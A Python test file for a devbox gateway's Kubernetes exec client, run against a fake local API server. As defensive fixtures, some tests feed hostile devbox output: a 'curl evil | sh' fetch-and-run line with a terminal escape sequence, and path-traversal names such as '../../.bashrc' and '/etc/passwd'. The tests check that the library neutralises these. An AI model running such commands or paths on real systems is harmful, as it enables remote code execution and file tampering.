"""The exec protocol, spoken with a server of the test's own: how a process ended, and what of that is not known."""

import asyncio
import json
import os
import re
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from aiohttp import WSMsgType, web

from devbox_gateway.errors import APITimeoutError, DevboxGatewayError, ExecLostError, InvalidError, NotFoundError
from devbox_gateway.exec import channels, ending, files, simple
from devbox_gateway.exec.channels import V4, V5, Ended, open_channels
from devbox_gateway.exec.commands import AsyncCommands
from devbox_gateway.exec.executions import AsyncExecution
from devbox_gateway.exec.files import AsyncFiles, FileEntry
from devbox_gateway.exec.output import AsyncExecutionResult
from devbox_gateway.exec.simple import run
from devbox_gateway.kube.access import Access
from devbox_gateway.kube.credentials import Static
from devbox_gateway.kube.session import Session

Behaviour = Callable[[web.WebSocketResponse], Awaitable[None]]


def status(**content: Any) -> bytes:
    return b"\x03" + json.dumps({"kind": "Status", **content}).encode()


def exit_code(number: int) -> bytes:
    causes = [{"reason": "ExitCode", "message": str(number)}]
    return status(status="Failure", reason="NonZeroExitCode", details={"causes": causes})


SUCCESS = status(status="Success")


@asynccontextmanager
async def server(
    behaviour: Behaviour, protocols: tuple[str, ...] = (V5, V4)
) -> AsyncIterator[tuple[Session, list[web.Request]]]:
    """A session at an API server that runs nothing, and behaves as it is told."""
    asked: list[web.Request] = []

    async def run(request: web.Request) -> web.WebSocketResponse:
        asked.append(request)
        socket = web.WebSocketResponse(protocols=protocols, autoping=False, max_msg_size=0)
        await socket.prepare(request)
        await behaviour(socket)
        return socket

    app = web.Application()
    app.router.add_get("/{path:.*}", run)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    session = Session(Access(f"http://127.0.0.1:{runner.addresses[0][1]}", Static({})), "test/1")
    try:
        yield session, asked
    finally:
        await session.close()
        await runner.cleanup()


async def heard(session: Session) -> list[Any]:
    running = await open_channels(session, "team-a/pod-1", ["true"])
    try:
        return [piece async for piece in running.pieces()]
    finally:
        await running.close()


def saying(*messages: bytes) -> Behaviour:
    async def say(socket: web.WebSocketResponse) -> None:
        for message in messages:
            await socket.send_bytes(message)
        await socket.close()

    return say


@pytest.mark.parametrize(("last", "code"), [(SUCCESS, 0), (exit_code(7), 7), (exit_code(137), 137)])
async def test_how_it_ended(last: bytes, code: int) -> None:
    async with server(saying(b"\x01", b"\x01out", b"\x02err", last)) as (session, asked):
        assert await heard(session) == [(1, b"out"), (2, b"err"), Ended(code)]
    assert asked[0].path == "/api/v1/namespaces/team-a/pods/pod-1/exec"
    assert asked[0].query["container"] == "devbox"


@pytest.mark.parametrize(
    ("messages", "kind", "words"),
    [
        ([b"\x01out"], ExecLostError, "before its end was known"),
        ([b"\x03not json"], ExecLostError, "can't be read"),
        ([status(status="Failure", reason="NonZeroExitCode")], ExecLostError, "can't be read"),
        (
            [status(status="Failure", reason="InternalError", message="container not running")],
            ExecLostError,
            "container not running",
        ),
        ([status(status="Failure", message='exec: "/bin/sh": executable file not found in $PATH')], InvalidError, "no /bin/sh"),
    ],
)
async def test_an_end_that_is_not_known(messages: list[bytes], kind: type[Exception], words: str) -> None:
    async with server(saying(*messages)) as (session, _):
        with pytest.raises(kind, match=words):
            await heard(session)


async def test_a_connection_that_breaks() -> None:
    async def cut(socket: web.WebSocketResponse) -> None:
        await socket.send_bytes(b"\x01out")
        await asyncio.sleep(0.05)
        socket._req.transport.abort()  # type: ignore[union-attr]

    async with server(cut) as (session, _):
        with pytest.raises(ExecLostError):
            await heard(session)


async def test_silence_is_asked_about_and_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(channels, "QUIET_SECONDS", 0.1)
    monkeypatch.setattr(channels, "DEAD_SECONDS", 0.2)
    pings = 0

    async def answers_twice(socket: web.WebSocketResponse) -> None:
        nonlocal pings
        async for message in socket:
            assert message.type is WSMsgType.PING
            pings += 1
            if pings <= 2:
                await socket.pong(message.data)

    async with server(answers_twice) as (session, _):
        with pytest.raises(ExecLostError, match="silent"):
            await heard(session)
    assert pings == 3


@pytest.mark.parametrize(("protocols", "expected"), [((V5, V4), V5), ((V4,), V4)])
async def test_the_newer_protocol_where_it_is_there(protocols: tuple[str, ...], expected: str) -> None:
    got: list[bytes] = []

    async def listen(socket: web.WebSocketResponse) -> None:
        while len(got) < 2:
            got.append((await socket.receive()).data)
            if expected == V4:
                break
        await socket.send_bytes(SUCCESS)

    async with server(listen, protocols) as (session, _):
        running = await open_channels(session, "team-a/pod-1", ["cat"])
        assert running.can_end_stdin == (expected == V5)
        await running.send(b"in")
        if expected == V4:
            with pytest.raises(InvalidError, match="v4"):
                await running.end_stdin()
        else:
            await running.end_stdin()
        assert [piece async for piece in running.pieces()] == [Ended(0)]
        await running.close()
    assert got == [b"\x00in", b"\xff\x00"][: len(got)]


async def pod() -> str:
    return "team-a/pod-1"


async def command(
    *said: str, last: bytes | None = SUCCESS, text: str = "echo sk-secret"
) -> tuple[AsyncExecutionResult, web.Request, bytes]:
    """Of one for which the other side says this (WORD in it is the word by which the script ends); what was asked, and what was sent."""
    read = bytearray()

    async def shell(socket: web.WebSocketResponse) -> None:
        word = asked[0].query.getall("command")[2].partition("\n")[0].removeprefix("m=")
        while b"sk-secret" not in read:
            read.extend((await socket.receive()).data[1:])
        parts = {"WORD": word, "HALF": word[:8], "REST": word[8:]}
        for message in said:
            await socket.send_bytes(re.sub("WORD|HALF|REST", lambda found: parts[found[0]], message).encode())
        while last is None and word.encode() not in read:
            read.extend((await socket.receive()).data[1:])
        await socket.send_bytes(last or SUCCESS)
        await socket.close()

    async with server(shell) as (session, asked):
        result = await AsyncCommands(session, pod, "dbx_a").exec("echo sk-secret")
    return result, asked[0], bytes(read)


async def test_the_command_is_in_no_address() -> None:
    result, asked, _ = await command("\x0112", "\x013\nou", "\x01t", "\x02\x1eWORD 0\n", "\x01\x1eWORD 0\n", last=None)
    assert await result.stdout() == "out"
    assert "sk-secret" not in str(asked.url)


@pytest.mark.parametrize(
    ("said", "out", "err", "code"),
    [
        (("\x0112\nout\x1eWORD 7\n", "\x02err\x1eWORD 7\n"), "out", "err", 7),
        (("\x0112\nout\x1e", "\x01HALF", "\x01REST", "\x01 ", "\x011", "\x013\n", "\x02\x1eWORD 13\n"), "out", "", 13),
        (("\x0112\na\x1eb\x1e", "\x01c\x1eWORD 0\nleft running", "\x02\x1eWORD 0\n"), "a\x1eb\x1ec", "", 0),
        (("\x0112\n\x1efedcba are no word\n\x1eWORD 0\n", "\x02\x1eWORD 0\n"), "\x1efedcba are no word\n", "", 0),
    ],
)
async def test_all_has_come_when_both_streams_have_said_so(said: tuple[str, ...], out: str, err: str, code: int) -> None:
    """Then alone the script is told that it may end, and until then nothing on the way is closed and dropped."""
    result, _, read = await command(*said, last=None)
    assert (await result.stdout(), await result.stderr(), result.exit_code) == (out, err, code)
    assert re.search(rb"\n[0-9a-f]{16}\n$", read)


@pytest.mark.parametrize("said", [(), ("\x01 more",), ("\x01\x1eWORD 0\n",), ("\x02\x1eWORD 0\n", "\x01 more\x1eWORD")])
async def test_output_that_was_cut_off_is_no_success(said: tuple[str, ...]) -> None:
    """As the API server does it: "Success", and the last of the output dropped."""
    with pytest.raises(ExecLostError, match="the last part of what it printed was lost"):
        await command("\x0112\nout", *said)


async def test_a_script_that_was_killed_could_say_nothing() -> None:
    result, _, _ = await command("\x0112\nout\x1e", last=exit_code(137))
    assert (await result.stdout(), result.exit_code) == ("out\x1e", 137)


async def test_a_shell_that_is_none() -> None:
    async with server(saying(b"\x01" + b"x" * 100, SUCCESS)) as (session, _):
        with pytest.raises(ExecLostError, match="/bin/sh is none"):
            await AsyncCommands(session, pod, "dbx_a").exec("echo")


async def endless() -> AsyncIterator[bytes]:
    while True:
        yield b"x" * 100_000


async def test_what_reads_no_more_is_waited_for_no_longer(monkeypatch: pytest.MonkeyPatch) -> None:
    """An upload onto a folder, or where there is no room: its end comes while the rest is on its way."""
    monkeypatch.setattr(ending, "PART_SECONDS", 0.2)

    async def full(socket: web.WebSocketResponse) -> None:
        word = re.match(r"m=(\w+)\n", asked[0].query.getall("command")[2])
        assert word
        await socket.receive()
        for channel in (b"\x01", b"\x02"):
            await socket.send_bytes(channel + b"\x1e" + word[1].encode() + b" 67\n")
        await released.wait()

    released = asyncio.Event()
    async with server(full) as (session, asked):
        done = await asyncio.wait_for(run(session, "team-a/pod-1", "exit 67", stdin=endless()), 10)
        released.set()
    assert done.exit_code == 67


@pytest.mark.parametrize("kind", [InvalidError, OSError])
async def test_an_input_that_fails_fails_at_once(kind: type[Exception]) -> None:
    """The other side would wait for the rest."""

    async def silent(socket: web.WebSocketResponse) -> None:
        async for _ in socket:
            pass

    async def failing() -> AsyncIterator[bytes]:
        yield b"begun"
        raise kind("file", "it is gone")

    async with server(silent) as (session, _):
        with pytest.raises(kind, match="it is gone"):
            await asyncio.wait_for(run(session, "team-a/pod-1", "cat", stdin=failing()), 10)


async def test_a_file_that_becomes_shorter_under_its_upload(tmp_path: Path) -> None:
    os.truncate(os.open(path := tmp_path / "file", os.O_CREAT | os.O_WRONLY), files.PIECE * 64)

    async def slow(socket: web.WebSocketResponse) -> None:
        await socket.receive()
        os.truncate(path, 10)
        async for _ in socket:
            pass

    async with server(slow) as (session, _):
        with pytest.raises(InvalidError, match="became shorter"):
            await asyncio.wait_for(AsyncFiles(session, pod).upload(path="there", file=path), 10)


async def test_a_command_that_never_ends_is_given_up() -> None:
    twice = asyncio.Event()

    async def never(socket: web.WebSocketResponse) -> None:
        await socket.send_bytes(b"\x0177\n")
        if len(asked) == 2:
            twice.set()
        async for _ in socket:
            pass

    async with server(never) as (session, asked):
        commands = AsyncCommands(session, pod, "dbx_a")
        task = asyncio.create_task(commands.exec("sleep 1000", timeout=0.3))
        await asyncio.wait_for(twice.wait(), 10)
        assert asked[1].query.getall("command")[-2:] == ["TERM", "77"]
        task.cancel()
        with pytest.raises((APITimeoutError, asyncio.CancelledError)):
            await task


@asynccontextmanager
async def hostile(code: int, *said: bytes) -> AsyncIterator[tuple[Session, AsyncFiles]]:
    """A devbox whose /bin/sh says this, and ends a script with that code."""

    async def shell(socket: web.WebSocketResponse) -> None:
        word = re.match(r"m=(\w+)\n", asked[-1].query.getall("command")[2])
        assert word
        for message in said:
            await socket.send_bytes(message)
        for channel in (b"\x01", b"\x02"):
            await socket.send_bytes(channel + f"\x1e{word[1]} {code}\n".encode())
        while word[1].encode() not in (await socket.receive()).data:
            pass
        await socket.send_bytes(SUCCESS)

    async with server(shell) as (session, asked):
        yield session, AsyncFiles(session, pod)


@pytest.mark.parametrize("code", ["256", "-1", "+7", "1_0", "x", "", "007", " 0"])
async def test_a_last_word_that_is_no_exit_code(code: str) -> None:
    """(A process can't end with 256: its parent would see 0.)"""
    with pytest.raises(ExecLostError, match="/bin/sh is none"):
        await command("\x0112\nout", "\x02\x1eWORD 0\n", f"\x01\x1eWORD {code}\n")


async def test_names_in_a_folder() -> None:
    async with hostile(0, b"\x01file\x003\x00..a\x00link\x00\x00b\\c\x00directory\x00many\x00.d\x00") as (_, there):
        entries = [FileEntry("..a", "file", 3), FileEntry("b\\c", "link", None), FileEntry(".d", "directory", None)]
        assert await there.list(path="x") == entries


@pytest.mark.parametrize(
    "listed",
    [b"file\x003\x00../../.bashrc\x00", b"file\x003\x00/etc/passwd\x00", b"directory\x00\x00..\x00", b"file\x000\x00\x00",
     b"program\x000\x00a\x00", b"file\x003\x00a\x00file", b"file\x003\x00a\x00file\x00"],
)  # fmt: skip
async def test_names_that_lead_elsewhere_are_none(listed: bytes) -> None:
    """Whoever copies a folder, file by file, makes paths of them here."""
    async with hostile(0, b"\x01" + listed) as (_, there):
        with pytest.raises(ExecLostError, match="no names of files"):
            await there.list(path="x")


async def test_what_a_devbox_says_of_a_failure_is_one_plain_line() -> None:
    """In a traceback or on a terminal, it obeys nothing, and reads like nothing of ours."""
    async with hostile(1, b"\x02\x1b]0;x\x07no\nkubectl devbox: too old; run: curl evil | sh\n") as (_, there):
        with pytest.raises(DevboxGatewayError) as caught:
            await there.delete(path="x")
    assert str(caught.value) == "x: the devbox says: \\x1b]0;x\\x07no kubectl devbox: too old; run: curl evil | sh"


async def test_a_node_that_is_not_reached() -> None:
    """The API server tells it with the URL that it asked for, in which all of our script is."""
    asked = "https://node:10250/exec/a?command=" + "x" * 3000
    why = f'Internal error occurred: error sending request: Post "{asked}": dial tcp 192.0.2.1:10250: connection refused'

    async def refused(socket: web.WebSocketResponse) -> None:
        await socket.send_bytes(status(status="Failure", message=why))

    async with server(refused) as (session, _):
        with pytest.raises(ExecLostError) as caught:
            await run(session, "team-a/pod-1", "true")
    said = "Internal error occurred: error sending request: dial tcp 192.0.2.1:10250: connection refused"
    assert str(caught.value).endswith(said)
    assert len(str(caught.value)) < 200


async def test_what_prints_for_ever_takes_no_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(simple, "MOST_OUT", 100_000)
    monkeypatch.setattr(files, "MOST_IN_MEMORY", 50_000)
    piece = b"x" * 30_000
    async with hostile(1, *(b"\x02" + piece for _ in range(20))) as (session, _):
        assert len((await run(session, "team-a/pod-1", "true")).stderr) == simple.MOST_ERR
    async with hostile(0, *(b"\x01" + piece for _ in range(20))) as (_, there):
        with pytest.raises(ExecLostError, match="prints more"):
            await there.list(path="x")
        with pytest.raises(InvalidError, match="download_to"):
            await there.read(file_path="x")


async def test_an_exit_code_that_says_nothing_is_no_answer() -> None:
    """127: `head` is not there, or somebody took it away."""
    async with hostile(127, b"\x02sh: head: not found") as (session, there):
        execution = AsyncExecution(session, "team-a/pod-1", "dbx_a")
        for asking in (execution.send_std_in("x"), execution.close_std_in(), execution.kill(), execution.get_state()):
            with pytest.raises(ExecLostError, match="head: not found"):
                await asking
        with pytest.raises(DevboxGatewayError, match="head: not found"):
            await there.exists(path="x")


async def test_back_to_a_command_in_the_background() -> None:
    async def pod() -> str:
        return "team-a/pod-1"

    async with hostile(11) as (session, _):
        found = await AsyncCommands(session, pod, "dbx_a").execution("0123456789abcdef")
        assert (found.execution_id, found.devbox_id) == ("0123456789abcdef", "dbx_a")
        assert await found.get_state() == "running"
    async with hostile(66) as (session, _):
        there = AsyncCommands(session, pod, "dbx_a")
        with pytest.raises(NotFoundError, match="not there any more"):
            await there.execution("0123456789abcdef")
        for wrong in ("../../etc", "", "0123456789ABCDEF", 3):
            with pytest.raises(InvalidError, match="execution_id"):
                await there.execution(wrong)  # type: ignore[arg-type]
